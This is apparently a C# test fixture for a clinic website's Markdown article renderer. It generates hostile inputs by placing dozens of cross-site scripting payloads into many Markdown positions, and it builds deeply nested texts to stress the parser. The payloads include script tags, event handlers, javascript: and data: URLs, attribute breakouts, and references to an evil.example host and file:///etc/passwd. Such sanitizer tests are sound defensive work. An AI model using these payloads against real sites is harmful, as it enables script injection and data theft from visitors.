namespace Clinic.Web.Tests.Articles;

/// <summary>Texts that try to get more onto a page than an editor may put there: every trick at every place of a text, and nesting made at random.</summary>
public static class HostileMarkdown
{
    const int NestedTexts = 600;

    static readonly string[] Places =
    [
        "{0}", "Words {0} words.", "## {0}", "## Heading {0}\n\nWords.", "- {0}", "- - {0}", "1. {0}\n2. b", "> {0}", "> - {0}", "*{0}*", "**{0}**", "a *b {0}* c", "`{0}`", "`` {0}", "a  \n{0}", "a\\\n{0}",
        "| a | b |\n|---|:-:|\n| {0} | c |", "| {0} | b |\n|---|---|\n| c | d |", "a | {0}\n-|-\nc | d",
        "[{0}](/faq)", "[a]({0})", "[a](<{0}>)", "[a](/faq \"{0}\")", "[a](/faq '{0}')", "[a](/faq ({0}))", "[a]({0} \"b\")", "[a](/faq#{0})", "[a](https://www.example.org/{0})", "[a][b]\n\n[b]: {0}", "[a][b]\n\n[b]: <{0}>", "[a][b]\n\n[b]: /faq \"{0}\"", "[{0}]\n\n[{0}]: /faq",
        "![{0}](a.svg)", "![a]({0})", "![a](a.svg \"{0}\")", "words ![{0}](a.svg) words", "![a][b]\n\n[b]: {0}", "[![{0}](a.svg)](/faq)", "<{0}>", "<https://www.example.org/{0}>", "<a@{0}>",
        "::: in-short\n{0}\n:::", "::: {0}\nwords\n:::", "::: faq\n### {0}\n\nwords\n:::", "::: questions {0}\nwords\n:::", "[@{0}]", "[@dea1999] {0}", "esketamine {0} esketamine", "\\{0}", "&lt;{0}&gt;", "a\n{0}\nb", "{0}\n===", "    {0}", "```{0}\nx\n```", "a{0}b", "{0} {0}",
    ];

    /// <summary>Html as it is written into pages that do not escape it.</summary>
    public static readonly string[] Tags =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "</p></div><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\"/>", "<img/src='x'/onerror='alert(1)'>", "<img src=https://evil.example/p.gif>", "<img src=x:x onerror\n=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=https://evil.example/x>", "<a href=javascript:alert(1)>x</a>", "<a onclick=alert(1) href=#>x</a>", "<form action=https://evil.example/><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<video src=x onerror=alert(1)></video>", "<audio><source src=x onerror=alert(1)></audio>", "<style>@import 'https://evil.example/x.css'</style>", "<p style=background:url(https://evil.example/x)>x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>", "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea></textarea><img src=x onerror=alert(1)>", "<title></title><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?x ><img src=x onerror=alert(1)>?>", "<!DOCTYPE x><img src=x onerror=alert(1)>", "<x onpointerenter=alert(1)>x</x>", "<xmp><img src=x onerror=alert(1)></xmp>", "<table background=https://evil.example/x>",
    ];

    static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "javascript\\:alert(1)", "%6aavascript:alert(1)", "javascript%3Aalert(1)",
        "javascript://www.example.org/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "http://evil.example/x", "https:evil.example", "https:///evil.example", "file:///etc/passwd", "ftp://evil.example/x", "blob:https://evil.example/x", "about:blank", "view-source:x", "feed:javascript:alert(1)", "jar:https://evil.example!/x", "ws://evil.example/", "intent:x#Intent;end", "../../secret", "?x=1", "x",
    ];

    static readonly string[] Breakouts =
    [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "`onmouseover=alert(1)`", "&quot; onmouseover=&quot;alert(1)", "&#34;&#62;&#60;img src=x onerror=alert(1)&#62;", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\\"><img src=x onerror=alert(1)>", "{onclick=alert(1)}", "{.a style=color:red}", "{#id onload=alert(1)}", ")(javascript:alert(1)", "](javascript:alert(1))", "](javascript:alert(1) \"x\")", "]: javascript:alert(1)", "\n[x]: javascript:alert(1)\n[x]", "\0<img src=x onerror=alert(1)>", "\ufeff<img src=x onerror=alert(1)>", "\u2028<img src=x onerror=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "@{ alert(1); }", "[[x]]", "![[x]]", "~~x~~ ^x^ ==x==", "[^1]\n\n[^1]: javascript:alert(1)", "$$<img src=x onerror=alert(1)>$$", ":smile: :img[x](y)",
    ];

    static readonly string[] Pieces = ["*", "**", "_", "[", "]", "(", ")", "![", "](", "](/faq)", "](a.svg)", "<", ">", "`", "``", "\\", "&", "&#", ";", "|", "\n", "\n\n", "- ", "1. ", "> ", "## ", "::: ", ":::\n", "in-short\n", "\"", "'", "{", "}", "[@", "a", " ", "javascript:", "alert(1)", "onerror=", "<img src=x ", "<script>", "</script>", "<!--", "-->", "\t", "    ", "---\n", "=", "\u00e9", "esketamine"];

    public static IEnumerable<string> All => Tricks().Concat(Nested()).Distinct(StringComparer.Ordinal);

    static IEnumerable<string> Tricks() =>
        from place in Places
        from trick in Tags.Concat(Addresses).Concat(Breakouts)
        select place.Replace("{0}", trick, StringComparison.Ordinal);

    static IEnumerable<string> Nested()
    {
#pragma warning disable CA5394 // The same texts each time, so that what fails once fails again.
        var random = new Random(42);
        for (var i = 0; i < NestedTexts; i++)
            yield return string.Concat(Enumerable.Range(0, random.Next(5, 60)).Select(_ => Pieces[random.Next(Pieces.Length)]));
#pragma warning restore CA5394
    }

    /// <summary>A hundred kilobytes each, of what takes a parser longest: openers that nothing closes, and as much of each as a paragraph may hold.</summary>
    public static IEnumerable<(string What, string Text)> Deep()
    {
        const int Length = 100_000;
        const int InParagraph = 200;
        string[] openers =
        [
            ">", "> ", "- ", "* ", "+ ", "1. ", "> - ", "[", "![", "[a](", "[a](<b", "![[](", "(", "*a ", "**a ", "_a ", "*a_ ", "*a **b ", "a* b_ ", "***", "`", "<", "<a:", "<!--", "<![CDATA[", "&", "&#x", "\\", "\\[", "|", "a|", "|*a", "|`", "[@", "[@a;", "[@a] ", "[a]: /x\n", "[a]:", "a|b\n", "a|b\n-|-\n\n", "|a|b|\n", "::: in-short\n", ":::\n", "## a\n", "a\n=\n", "- - - a\n", "- a\n\n  ", ">\n\n", "```\n", "    a\n", "\t", "\n", "a", "esketamine ", "[a](/faq) ", "a\\\n", "\"", "<a@",
        ];
        foreach (var opener in openers)
        {
            yield return (opener, string.Concat(Enumerable.Repeat(opener, Length / opener.Length)));
            var paragraph = string.Concat(Enumerable.Repeat(opener, InParagraph)) + "\n\n";
            yield return ($"{InParagraph} at a time of {opener}", string.Concat(Enumerable.Repeat(paragraph, Length / paragraph.Length)));
        }
        foreach (var (open, close) in new[] { ("[", "]"), ("[", "](/faq)"), ("![", "](a.svg)"), ("*a ", " b*"), ("**a ", " b**"), ("*[", "](/faq)*"), ("(", ")"), ("::: in-short\n", ":::\n") })
        {
            foreach (var deep in new[] { 5, 12, 60, 10_000 })
                yield return ($"{deep} within each other of {open}", string.Concat(Enumerable.Repeat(string.Concat(Enumerable.Repeat(open, deep)) + "x" + string.Concat(Enumerable.Repeat(close, deep)) + "\n\n", Math.Max(1, Length / (deep * (open.Length + close.Length) + 3)))));
        }
        foreach (var step in new[] { "- a", "1. a", "> a" })
            yield return ($"stairs of {step}", string.Concat(Enumerable.Range(0, 400).Select(depth => string.Concat(Enumerable.Repeat(step == "> a" ? ">" : "  ", depth)) + step + "\n")));
    }
}
